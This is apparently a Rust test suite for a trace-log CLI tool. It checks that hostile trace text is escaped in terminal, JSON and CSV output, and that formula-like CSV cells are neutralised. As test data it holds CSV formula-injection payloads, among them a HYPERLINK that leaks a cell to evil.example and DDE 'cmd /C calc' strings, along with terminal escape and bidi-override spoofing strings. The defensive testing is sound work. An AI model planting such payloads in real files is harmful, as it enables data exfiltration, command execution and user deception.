//! Text from a trace is attacker-controlled: escape sequences, carriage returns and bidi
//! overrides reach the terminal escaped, never raw; formulas reach a CSV as text; JSON escapes.

mod common;

use std::fs;
use std::path::Path;
use std::process::Output;

use assert_cmd::cargo::cargo_bin_cmd;
use common::{Root, trace_with, write};
use tempfile::TempDir;

/// In the file as XML: raw ESC and U+202E, and a carriage return as a character reference
/// (a raw one in an attribute is normalized to a space by any XML reader).
const URL_XML: &str = "http://localhost/\u{1b}[31mred&#13;&#x1b;[2J\u{202e}gpj.exe";
/// What the trace says, once read.
const URL: &str = "http://localhost/\u{1b}[31mred\r\u{1b}[2J\u{202e}gpj.exe";
const POOL_XML: &str = "Pool\u{1b}]0;owned\u{7}&#13;\u{202e}X";
const POOL: &str = "Pool\u{1b}]0;owned\u{7}\r\u{202e}X";
/// In element text, a raw CR survives.
const COMPUTER: &str = "WEB\u{1b}[31m\r\u{202e}01";
/// A file name with the same, as far as the file system allows, and how stderr shows it.
#[cfg(unix)]
const NAME: (&str, &str) = ("fr\u{1b}[31m\r\u{202e}.xml", "fr\\x1b[31m\\r\\u{202e}.xml");
#[cfg(not(unix))]
const NAME: (&str, &str) = ("fr\u{202e}lmx.xml", "fr\\u{202e}lmx.xml");

fn hostile_dir() -> TempDir {
    let tmp = tempfile::tempdir().unwrap();
    let root = Root {
        url: URL_XML,
        app_pool: POOL_XML,
        computer: COMPUTER,
        status: "502.3",
    };
    write(&tmp.path().join("fr000001.xml"), trace_with(&root));
    // Skipped files whose name and detail carry the same.
    write(&tmp.path().join(NAME.0), "");
    write(
        &tmp.path().join("fr000002.xml"),
        "<failedRequest\u{1b}[31m\u{202e} url=\"x\"/>",
    );
    tmp
}

/// No byte of a terminal control sequence or bidi override is left raw.
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for (i, ch) in text.char_indices() {
        let bad = (ch.is_control() && ch != '\n')
            || matches!(ch, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(
            !bad,
            "{what}: raw {ch:?} at byte {i}: ...{}...",
            &text[i.saturating_sub(60)..(i + 20).min(text.len())]
        );
    }
}

fn run(args: &[&str], dir: &Path) -> Output {
    cargo_bin_cmd!("frebscope")
        .args(args)
        .arg(dir)
        .arg("--no-progress")
        .env_remove("NO_COLOR")
        .output()
        .unwrap()
}

#[test]
fn scan_tables_show_trace_text_escaped() {
    let tmp = hostile_dir();
    for by in ["error", "server", "app-pool", "url"] {
        let output = run(&["scan", "--by", by], tmp.path());
        assert_eq!(output.status.code(), Some(2), "{output:?}");
        assert_clean(&format!("scan --by {by} stdout"), &output.stdout);
        assert_clean(&format!("scan --by {by} stderr"), &output.stderr);
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            stdout.contains("3 files found · 1 read · 2 skipped (empty 1, not-freb 1)"),
            "{stdout}"
        );
        // Shown, escaped: the reader can still see what the trace said.
        assert!(stdout.contains("\\x1b[31m"), "--by {by}: {stdout}");
        if by != "error" {
            assert!(stdout.contains("\\u{202e}"), "--by {by}: {stdout}");
        }
    }
}

#[test]
fn requests_table_shows_trace_text_escaped() {
    let tmp = hostile_dir();
    let output = run(&["requests"], tmp.path());
    assert_eq!(output.status.code(), Some(2));
    assert_clean("requests stdout", &output.stdout);
    assert_clean("requests stderr", &output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("\\x1b[31m"), "{stdout}");
    assert!(stdout.contains("\\r"), "{stdout}");
}

#[test]
fn skipped_list_on_stderr_shows_names_and_details_escaped() {
    let tmp = hostile_dir();
    let output = run(&["requests", "--json"], tmp.path());
    assert_eq!(output.status.code(), Some(2));
    assert_clean("stderr", &output.stderr);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(&format!("{}: empty", NAME.1)), "{stderr}");
    assert!(stderr.contains("fr000002.xml: not-freb"), "{stderr}");
    assert!(stderr.contains("\\x1b[31m\\u{202e}"), "{stderr}");
}

#[test]
fn json_escapes_and_keeps_the_text_intact() {
    let tmp = hostile_dir();
    let output = run(&["requests", "--json"], tmp.path());
    assert!(!output.stdout.contains(&0x1b), "raw ESC in JSON");
    assert!(!output.stdout.contains(&b'\r'), "raw CR in JSON");
    let out = common::parse_outcome(&output);
    out.assert_accounted();
    let row = out.row("fr000001.xml");
    assert_eq!(row["url"], URL);
    assert_eq!(row["app_pool"], POOL);
    assert_eq!(row["server"], COMPUTER);
    let output = run(&["scan", "--json", "--by", "url"], tmp.path());
    assert!(!output.stdout.contains(&0x1b), "raw ESC in JSON");
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(json.to_string().contains("\\u001b[31m"), "{json}");
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;open&quot;)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "&#9;=1+1",
    "&#13;=1+1",
];

fn formula_dir() -> TempDir {
    let tmp = tempfile::tempdir().unwrap();
    for (i, formula) in FORMULAS.iter().enumerate() {
        let computer = formula.replace("&#9;", "\t").replace("&#13;", "\r");
        let root = Root {
            url: formula,
            app_pool: formula,
            computer: &computer,
            status: "502.3",
        };
        write(&tmp.path().join(format!("fr{i:06}.xml")), trace_with(&root));
    }
    tmp
}

/// Every cell that starts like a formula was neutralised; returns the cells read.
fn assert_no_formula(what: &str, csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
                "{what}: formula cell {cell:?}"
            );
            assert!(
                first != Some('-') || cell == "-",
                "{what}: formula cell {cell:?}"
            );
            cells.push(cell.to_owned());
        }
    }
    cells
}

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
    let tmp = formula_dir();
    let output = run(&["requests", "--csv", "-"], tmp.path());
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let cells = assert_no_formula("requests", &String::from_utf8_lossy(&output.stdout));
    // The formula is there, as text.
    assert!(
        cells
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"),
        "{cells:?}"
    );
    assert!(cells.iter().any(|c| c == "'\t=1+1"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'\r=1+1"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'-2+3"), "{cells:?}");
    for by in ["error", "server", "app-pool", "url"] {
        let file = tmp.path().join(format!("scan-{by}.csv"));
        let output = cargo_bin_cmd!("frebscope")
            .args(["scan", "--no-progress", "--by", by, "--csv"])
            .arg(&file)
            .arg(tmp.path())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let text = fs::read_to_string(&file).unwrap();
        let cells = assert_no_formula(&format!("scan --by {by}"), &text);
        assert!(
            cells.iter().any(|c| c.contains("=HYPERLINK(")),
            "{by}: {text}"
        );
        // The table printed alongside is clean too.
        assert_clean(&format!("scan --by {by} table"), &output.stdout);
    }
}

#[test]
fn skipped_csv_neutralises_formulas_in_paths() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = tmp.path().join("=HYPERLINK(1)");
    fs::create_dir(&evil).unwrap();
    write(&evil.join("fr000001.xml"), "");
    let output = cargo_bin_cmd!("frebscope")
        .args(["scan", "--no-progress", "--skipped-csv", "skipped.csv"])
        .arg("=HYPERLINK(1)")
        .current_dir(tmp.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let text = fs::read_to_string(tmp.path().join("skipped.csv")).unwrap();
    let cells = assert_no_formula("skipped csv", &text);
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with("'=HYPERLINK(1)") && c.ends_with("fr000001.xml")),
        "{cells:?}"
    );
}
